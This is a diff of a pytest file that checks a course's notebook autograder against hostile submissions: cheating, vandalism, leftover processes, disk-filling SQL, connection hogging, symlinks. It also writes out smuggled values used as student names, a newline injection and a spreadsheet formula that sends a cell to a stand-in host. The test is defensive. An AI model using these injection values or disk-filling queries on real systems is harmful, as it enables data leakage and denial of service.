@@ -5,16 +5,20 @@ run completes, and no submission harms the database, another student or the inst
 from __future__ import annotations
 
 import csv
+import json
 import os
 import secrets
+import socket
+import subprocess
+import sys
 from pathlib import Path
 
 import nbformat
 import pytest
 from psycopg import sql
 
-from course.infra import db
-from course.grading import grade, gradebook, manifest, notebooks, roles
+from course.infra import db, processes
+from course.grading import checker, confine, grade, gradebook, manifest, notebooks, roles
 from course.grading.notebooks import exercise_of
 
 ROOT = notebooks.ROOT
@@ -144,6 +148,24 @@ def test_both_layouts_are_found_and_a_stray_name_gets_a_row(tmp_path):
     assert [(s.student, s.lab) for s in found] == [("ana", "00"), ("ana", "03"), ("bo_b", "07")]
     assert [(r.student, r.status) for r in stray] == [("cy", "unreadable")]
     assert "<student>/<NN>_*.ipynb" in stray[0].detail
+    found, stray = grade.find_submissions(tmp_path, {"03"}, {lab.id for lab in COURSE.labs})  # --lab 03
+    assert [(s.student, s.lab) for s in found] == [("ana", "03")]
+    assert [(r.student, r.status) for r in stray] == [("cy", "unreadable")]  # a lab not asked for: no row
+
+
+def test_a_huge_or_linked_submission_is_not_read(tmp_path):
+    """A sparse 2 GB notebook (a zip can carry one) made the grader hold 4 GB; a link would be graded as
+    the file it points to. Each gets a row that says why, and is never opened."""
+    huge = tmp_path / "big" / "00_start_here.ipynb"
+    huge.parent.mkdir()
+    with open(huge, "wb") as f:
+        f.truncate(grade.MAX_NOTEBOOK_BYTES + 1)
+    (tmp_path / "lnk").mkdir()
+    (tmp_path / "lnk" / "00_start_here.ipynb").symlink_to(ROOT / "solutions" / COURSE.lab("00").notebook)
+    found, refused = grade.find_submissions(tmp_path, {"00"})
+    assert found == []
+    assert [(r.student, r.status) for r in refused] == [("big", "unreadable"), ("lnk", "unreadable")]
+    assert "MiB a notebook may be" in refused[0].detail and "symbolic link" in refused[1].detail
 
 
 def test_the_newest_notebook_of_a_lab_is_graded(tmp_path):
@@ -211,11 +233,13 @@ def every(lab, status):
 
 
 @pytest.mark.slow
+@pytest.mark.timeout(1800)  # a backstop: each notebook's own limit (45 s an exercise, a hang once) bounds a hang;
+#                             27 notebooks, two at a time, take 5-10 min on a 2-core machine at load 20-40
 def test_a_class_of_submissions_is_graded_each_with_its_own_row(tmp_path, sentinel):
     make_class(tmp_path / "class")
     progress = Path(os.environ["COURSE_PROGRESS_FILE"])
     out = tmp_path / "gradebook"
-    rows = grade.grade(tmp_path / "class", out, jobs=2, timeout_s=45, seed=7, progress=False)
+    rows = grade.grade(tmp_path / "class", out, jobs=2, timeout_s=45, seed=7, progress=False, trust=True).rows
 
     said = "\n".join(f"{r.student} {r.exercise}: {r.status} {r.detail}" for r in rows if r.status != "passed")
     assert statuses(rows, "ana", "00") == every("00", "passed"), said
@@ -248,8 +272,11 @@ def test_a_class_of_submissions_is_graded_each_with_its_own_row(tmp_path, sentin
     ivy = lab_rows(rows, "ivy", "00")  # os._exit in the cell
     assert ivy["00.first_job"].status == "crashed" and "exit code 3" in ivy["00.first_job"].detail
     assert ivy["00.quiz"].status == "passed"
-    jon = lab_rows(rows, "jon", "00")  # kills the process that grades it
-    assert jon["00.first_job"].status == "crashed" and "SIGKILL" in jon["00.first_job"].detail
+    jon = lab_rows(rows, "jon", "00")  # kills its parent: without a sandbox that is the checker, so a crash
+    if sandboxed():  # its parent is its sandbox's, which it may not signal
+        assert jon["00.first_job"].status == "could not load" and "not permitted" in jon["00.first_job"].detail
+    else:
+        assert jon["00.first_job"].status == "crashed" and "SIGKILL" in jon["00.first_job"].detail
     assert jon["00.quiz"].status == "passed"
     mia = lab_rows(rows, "mia", "00")
     assert mia["00.first_job"].status == "could not load" and "SyntaxError" in mia["00.first_job"].detail
@@ -265,8 +292,8 @@ def test_a_class_of_submissions_is_graded_each_with_its_own_row(tmp_path, sentin
     assert "03_postgres_queue.ipynb" in ola["03.claim"].detail
     assert statuses(rows, "pia", "00") == every("00", "passed")
     assert [(r.student, r.status) for r in rows if r.student == "ned"] == [("ned", "unreadable")]
-    qin = lab_rows(rows, "qin", "02")  # the answer kills every worker that runs it
-    assert qin["02.send_receipt"].status == "problem" and "exit code 1" in qin["02.send_receipt"].detail
+    qin = lab_rows(rows, "qin", "02")  # the answer kills every worker that runs it: its failure, not the grader's
+    assert qin["02.send_receipt"].status == "failed" and "exit code 1" in qin["02.send_receipt"].detail
     assert qin["02.place_order"].status == qin["02.quiz"].status == "passed"
 
     # nothing outside each submission's own schemas was harmed, and nothing was left behind
@@ -295,9 +322,9 @@ def test_an_answer_that_kills_its_worker_gets_its_row_and_the_next_student_is_gr
     lab = COURSE.lab("02")
     save(notebook("02", edit={"02.send_receipt": kills_its_worker}), tmp_path / "a" / lab.notebook)
     save(notebook("00"), tmp_path / "b" / COURSE.lab("00").notebook)
-    rows = grade.grade(tmp_path, tmp_path / "out", jobs=1, timeout_s=90, progress=False)
+    rows = grade.grade(tmp_path, tmp_path / "out", jobs=1, timeout_s=90, progress=False, trust=True).rows
     a = lab_rows(rows, "a", "02")
-    assert a["02.send_receipt"].status in {"problem", "failed"} and not a["02.send_receipt"].passed, a
+    assert a["02.send_receipt"].status == "failed" and not a["02.send_receipt"].passed, a
     assert "exit code 1" in a["02.send_receipt"].detail + a["02.send_receipt"].first_failing, a
     assert a["02.place_order"].status == "passed"
     assert statuses(rows, "b", "00") == every("00", "passed")
@@ -308,7 +335,8 @@ def test_the_command_line_writes_the_gradebook(tmp_path, database):
     (tmp_path / "class" / "bob_00_start_here.ipynb").write_text("{not json")
     from course.cli import main
 
-    assert main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--jobs", "1"]) == 0
+    assert main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--jobs", "1",
+                 "--trust-submissions"]) == 0
     table = list(csv.DictReader(open(tmp_path / "out" / "gradebook.csv")))
     assert [(t["student"], t["exercise"], t["status"], t["passed"]) for t in table] == [
         ("ana", "00.first_job", "passed", "1"), ("ana", "00.quiz", "passed", "1"), ("bob", "*", "unreadable", "0")]
@@ -325,7 +353,7 @@ def test_without_a_role_of_its_own_a_dropped_schema_is_still_found_and_said(tmp_
     monkeypatch.setattr(roles.Roles, "_probe", no_roles)
     drop = f"from course.infra import db as _db\n_db.drop_schema({sentinel!r})\n"
     save(notebook("00", prepend={"00.first_job": drop}), tmp_path / "class" / "zed" / "00_start_here.ipynb")
-    rows = grade.grade(tmp_path / "class", tmp_path / "out", jobs=1, timeout_s=60, progress=False)
+    rows = grade.grade(tmp_path / "class", tmp_path / "out", jobs=1, timeout_s=60, progress=False, trust=True).rows
     zed = lab_rows(rows, "zed", "00")
     assert zed["00.first_job"].status == "passed"  # the answer itself is right...
     assert f"schemas gone after it ran: ['{sentinel}']" in zed["00.first_job"].detail  # ...and it is on record
@@ -344,3 +372,241 @@ def test_a_role_left_by_a_killed_grade_run_is_dropped_by_the_next(database):
         assert role not in grading_roles(only_ours=False) and mine in grading_roles()
     finally:
         made.drop(mine)
+
+
+def test_a_notebooks_role_can_neither_block_the_graders_nor_take_every_connection(database):
+    """A hostile class held the graders' advisory lock from a backend asleep in pg_sleep (every grade run
+    then waited on it), and opened 297 connections (its classmates' checkers could not connect)."""
+    import psycopg
+
+    made = roles.Roles(share=20)  # a small share: the test opens all of it
+    role, conninfo = made.create()
+    try:
+        with psycopg.connect(conninfo, autocommit=True) as conn:
+            conn.execute("SELECT pg_advisory_lock(hashtext('course grade: roles'))")  # the old key: now nobody's
+            with pytest.raises(psycopg.errors.InsufficientPrivilege), conn.transaction():
+                conn.execute(f"LOCK TABLE {roles.LOCK_SCHEMA}.{roles.LOCK_TABLE} IN ACCESS SHARE MODE")
+            other, _ = made.create()  # the graders go on
+            made.drop(other)
+            limit = conn.execute("SELECT rolconnlimit FROM pg_roles WHERE rolname = current_user").fetchone()[0]
+            total = int(conn.execute("SELECT current_setting('max_connections')").fetchone()[0])
+            held = [psycopg.connect(conninfo) for _ in range(limit - 1)]  # all it may open (with `conn`)
+            try:
+                with pytest.raises(psycopg.OperationalError) as refused:
+                    psycopg.connect(conninfo)
+                assert checker.notebooks_doing(refused.value)  # its rows say so, not the grader's "problem"
+            finally:
+                for extra in held:
+                    extra.close()
+        assert 0 < limit <= total // 21
+    finally:
+        made.drop(role)
+    assert role not in grading_roles(only_ours=False)
+
+
+@pytest.mark.parametrize("fill", [
+    "CREATE TABLE fill.junk AS SELECT repeat(md5(g::text), 32) AS x FROM generate_series(1, 2000) g",  # ~2 MiB
+    "SELECT lo_from_bytea(0, decode(repeat(md5('x'), 131072), 'hex'))",  # 2 MiB in pg_largeobject, the catalog's
+], ids=["a table", "a large object"])
+def test_a_notebook_that_fills_the_servers_disk_is_stopped_at_its_budget(database, fill):
+    """A hostile class wrote 1.1 GB through PostgreSQL in 83 s, and nothing stopped it. Past its budget a
+    role's sessions end and it may not log in again (here a budget of 1 MiB)."""
+    import time
+
+    import psycopg
+
+    made = roles.Roles()
+    role, conninfo = made.create()
+    try:
+        with made.watched(role, budget_bytes=1 << 20) as watch, psycopg.connect(conninfo, autocommit=True) as conn:
+            schema = f"t_fill_{secrets.token_hex(3)}"  # its own (tests run at once), t_ as test schemas are
+            conn.execute(f"CREATE SCHEMA {schema}")
+            conn.execute(fill.replace("fill.", f"{schema}."))
+            for _ in range(600):  # the watcher measures every 2 s; a loaded machine may be slow to run it
+                if watch.ended:
+                    break
+                time.sleep(0.1)
+            assert "its sessions were ended" in watch.ended, watch.ended
+            with pytest.raises(psycopg.OperationalError):
+                conn.execute("SELECT 1")
+        with pytest.raises(psycopg.OperationalError):
+            psycopg.connect(conninfo).close()
+        limit = roles.TEMP_FILE_LIMIT
+        with db.connect() as conn:
+            settings = conn.execute("SELECT setconfig FROM pg_db_role_setting s JOIN pg_roles r ON r.oid = s.setrole "
+                                    "WHERE r.rolname = %s", [role]).fetchone()[0]
+        assert f"temp_file_limit={limit}" in settings
+    finally:
+        made.drop(role)
+
+
+# -- paths as typed, the exit status, the files an instructor hands back -----------------------------------
+
+
+def readme_command() -> list[str]:
+    """The grading command as README.md prints it in its grading section."""
+    text = (notebooks.ROOT / "README.md").read_text()
+    section = text[text.index("## Grading a class"):]
+    command = section[section.index("```sh\n") + 6:section.index("\n```", section.index("```sh\n"))]
+    assert command.startswith("python -m course grade "), command
+    return command.split()
+
+
+@pytest.mark.slow
+def test_readmes_command_as_typed_grades_a_class_from_another_folder(tmp_path, database):
+    """Run from a folder that is not the checkout, with SUBMISSIONS and --out relative to it."""
+    argv = readme_command()
+    where = tmp_path / "elsewhere"
+    submissions = where / argv[argv.index("grade") + 1]
+    save(notebook("00"), submissions / "ana" / COURSE.lab("00").notebook)
+    save(notebook("00", "labs"), submissions / "ben" / COURSE.lab("00").notebook)
+    command = [sys.executable, *argv[1:]]
+    env = {**os.environ, "PYTHONPATH": str(notebooks.ROOT)}
+    if not confine.isolation()[0]:  # no sandbox here: as typed, it refuses in one line and writes nothing
+        refused = subprocess.run(command, cwd=where, env=env, capture_output=True, text=True, timeout=300)
+        assert refused.returncode == 2 and "--trust-submissions" in refused.stderr, refused
+        assert not (where / argv[argv.index("--out") + 1]).exists()
+        command.append("--trust-submissions")
+    done = subprocess.run(command, cwd=where, env=env, capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stdout + done.stderr
+    table = list(csv.DictReader(open(where / argv[argv.index("--out") + 1] / "gradebook.csv")))
+    assert {(t["student"], t["exercise"], t["status"]) for t in table} == {
+        ("ana", "00.first_job", "passed"), ("ana", "00.quiz", "passed"),
+        ("ben", "00.first_job", "not started"), ("ben", "00.quiz", "not started")}, done.stdout + done.stderr
+
+
+def test_the_exit_status_says_when_the_grader_itself_failed(tmp_path, database, monkeypatch):
+    save(notebook("00"), tmp_path / "class" / "ana" / "00_start_here.ipynb")
+    from course.cli import main
+
+    def broken(self):
+        raise RuntimeError("the database went away")
+
+    monkeypatch.setattr(roles.Roles, "create", broken)
+    assert main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--trust-submissions"]) == 1
+    assert main(["grade", str(tmp_path / "nowhere"), "--out", str(tmp_path / "out2"), "--trust-submissions"]) == 2
+
+
+def test_the_gradebook_has_scores_every_failure_a_wide_sheet_and_feedback(tmp_path, database):
+    save(notebook("00", edit=wrong(WRONG_QUIZ)), tmp_path / "class" / "dan" / "00_start_here.ipynb")
+    save(notebook("00"), tmp_path / "class" / "eve" / "00_start_here.ipynb")
+    out = tmp_path / "out"
+    graded = grade.grade(tmp_path / "class", out, jobs=2, timeout_s=60, seed=11, progress=False, trust=True)
+    dan = lab_rows(graded.rows, "dan", "00")["00.quiz"]
+    assert dan.status == "failed" and (dan.checks_passed, dan.checks_total) == (2, 3) and dan.score == 2 / 3
+    assert [f["name"] for f in dan.failing] == [dan.first_failing] and "q1" in dan.first_failing
+
+    long = {(t["student"], t["exercise"]): t for t in gradebook.read_csv(out / "gradebook.csv")}
+    assert long[("dan", "00.quiz")]["score"] == "0.67" and long[("dan", "00.quiz")]["failing"] == dan.first_failing
+    wide = list(csv.DictReader(open(out / "grades-wide.csv")))
+    assert [(w["student"], w["00.first_job"], w["00.quiz"], w["lab 00"], w["total"]) for w in wide] == [
+        ("dan", "1", "0.67", "1.67", "1.67"), ("eve", "1", "1", "2", "2")]
+    feedback = (out / "feedback" / "dan" / "00.md").read_text()
+    assert "00.quiz" in feedback and dan.first_failing in feedback and f"seed={dan.seed}" in feedback
+    assert "1 of 2 exercises passed" in feedback
+    head = (out / "summary.md").read_text()
+    assert "seed 11" in head and "course commit " in head and "sandbox" in head
+    assert f"SHA-256 {graded.run.checksum}" in head and "Nothing to flag" in head
+    facts = json.loads((out / "run.json").read_text())
+    assert facts["seed"] == 11 and facts["rows"] == 4 and facts["seconds"] > 0
+
+
+# -- a hostile class -------------------------------------------------------------------------------------
+
+
+def sandboxed() -> bool:
+    return confine.isolation()[0]
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(1800)  # as the class's: each notebook's limit bounds a hang; this is a backstop
+def test_a_hostile_class_earns_nothing_harms_nothing_and_leaves_nothing_running(tmp_path, sentinel):
+    """Each notebook tries one attack on top of a stub (so any pass is unearned), or on top of a right
+    answer (so its grade shows what the attack cost); ana and ben are honest classmates."""
+    from tests.grading import hostile
+
+    lab00 = COURSE.lab("00").notebook
+    folder = tmp_path / "class"
+    pid_file = tmp_path / "daemon.pid"
+    plan = {
+        "ana": notebook("00"),  # the victim of the vandal: graded as she handed it in
+        "ben": notebook("00", prepend={"00.first_job": "# ben's\n"}),
+        "forger": notebook("00", "labs", prepend={"00.first_job": hostile.forge_results(str(tmp_path))}),
+        "patcher": notebook("00", "labs", prepend={"00.first_job": hostile.PATCH_REPORT}),
+        "flatterer": notebook("00", edit={"00.first_job": lambda s: hostile.EQUAL_TO_EVERYTHING,
+                                          "00.quiz": lambda s: hostile.EQUAL_TO_EVERYTHING}),
+        "quitter": notebook("00", edit={"00.first_job": lambda s: hostile.EXITS}),
+        "vandal": notebook("00", "labs", prepend={"00.first_job": hostile.vandal(f"{folder}/**/ana/{lab00}")}),
+        "daemon": notebook("00", "labs", prepend={"00.first_job": hostile.daemon_writing_its_pid(str(pid_file))}),
+    }
+    plan["eve!"], plan["eve?"] = notebook("00"), notebook("00", "labs")  # one file name to safe(): each their own
+    injected = "| ben | 00.first_job | passed |"  # a folder name that would write a line into summary.md
+    plan[f"x\n{injected}"] = plan['=HYPERLINK("evil.example?"&A1,"click")'] = notebook("00", "labs")  # a formula
+    odd = notebook("00")  # an exercise id that is not text: no exercise, and the class's gradebook still written
+    next(c for c in odd.cells if exercise_of(c) == "00.quiz").metadata["course"] = {"exercise": ["00.quiz"]}
+    plan["odd"] = odd
+    listener = socket.create_server(("127.0.0.1", 0))  # a server no notebook is given: a classmate's, say
+    listener.settimeout(0)
+    if sandboxed():  # what only the OS sandbox refuses: reading files that are not the notebook's, other processes
+        plan |= {"copier": notebook("00", "labs", prepend={"00.first_job": hostile.EXEC_SOLUTIONS}),
+                 "superuser": notebook("00", "labs", prepend={"00.first_job": hostile.SUPERUSER}),
+                 "prober": notebook("00", "labs", prepend={"00.first_job": hostile.FORGE_THROUGH_PROC}),
+                 "keyreader": notebook("00", "labs", edit={"00.quiz": lambda s: hostile.READ_THE_KEY}),
+                 "caller": notebook("00", "labs", prepend={"00.first_job": hostile.reach_port(
+                     listener.getsockname()[1])})}
+    for student, nb in plan.items():
+        save(nb, folder / student / lab00)
+    (folder / "linker").mkdir()  # a link to the solution (a zip keeps links), and one to a classmate's notebook
+    (folder / "linker" / lab00).symlink_to(ROOT / "solutions" / lab00)
+    (folder / "copycat").symlink_to(folder / "ana")
+    progress = Path(os.environ["COURSE_PROGRESS_FILE"])
+    out = tmp_path / "out"
+    graded = grade.grade(folder, out, jobs=2, timeout_s=60, seed=3, progress=False, trust=not sandboxed())
+    rows = graded.rows
+
+    said = "\n".join(f"{r.student} {r.exercise}: {r.status} {r.detail}" for r in rows)
+    assert statuses(rows, "ana", "00") == every("00", "passed"), said  # graded as handed in
+    assert statuses(rows, "ben", "00") == every("00", "passed"), said
+    unearned = [r for r in rows if r.passed and r.student not in ("ana", "ben", "quitter", "eve!", "odd")]
+    assert unearned == [], said
+    assert statuses(rows, "quitter", "00") == {"00.first_job": "failed", "00.quiz": "passed"}, said
+    assert statuses(rows, "flatterer", "00") == every("00", "failed"), said
+    assert statuses(rows, "eve!", "00") == every("00", "passed"), said
+    assert statuses(rows, "eve?", "00") == every("00", "not started"), said
+    assert statuses(rows, "odd", "00") == {"00.first_job": "passed", "00.quiz": "no cell"}, said
+    for student in ("linker", "copycat"):
+        assert [(r.status, "symbolic link" in r.detail) for r in rows if r.student == student] == [
+            ("unreadable", True)], said
+    feedback = {p.read_text().splitlines()[0] for p in (out / "feedback").glob("eve*/00.md")}
+    assert feedback == {"# Lab 00: feedback for eve!", "# Lab 00: feedback for eve?"}, feedback
+    assert len(list((out / "logs").glob("eve*-00.log"))) == 2
+    assert injected not in (out / "summary.md").read_text().splitlines(), (out / "summary.md").read_text()
+    assert statuses(rows, f"x\\n{injected}", "00") == every("00", "not started"), said  # its name, escaped
+    for sheet in ("gradebook.csv", "grades-wide.csv"):
+        with open(out / sheet, newline="") as f:
+            names = {line[0] for line in csv.reader(f)}
+        assert "'=HYPERLINK(\"evil.example?\"&A1,\"click\")" in names and not any(n.startswith("=") for n in names), names
+    if sandboxed():  # its TCP reached no port but its own
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    listener.close()
+
+    flags = "\n".join(f"{whose}: {what}" for whose, what in graded.run.flags)
+    if sandboxed():  # the vandal could not reach her notebook
+        assert "changed on disk" not in flags, flags
+    else:
+        assert f"ana/{lab00}" in flags and "changed on disk" in flags, flags
+    assert "daemon, lab 00" in flags and "processes left running" in flags, flags
+    assert "ana, ben: 00.first_job: the same code" not in flags  # the solution itself is never a group
+
+    # no damage: the database, the instructor's progress, the gradebook; nothing left running
+    with db.connect(sentinel) as conn:
+        assert conn.execute("SELECT count(*) FROM precious").fetchone()[0] == 1
+    assert not progress.exists()
+    assert gradebook.differs_from(gradebook.read_csv(out / "gradebook.csv"), rows) is None
+    assert not Path("/tmp/course-hostile-was-here").exists()
+    if pid_file.exists():  # without a sandbox it could say where it was (with one, the flag above says it)
+        assert not processes.pid_alive(int(pid_file.read_text()))
+    else:
+        assert sandboxed(), "the daemon never started"
+    assert grading_roles() == set()
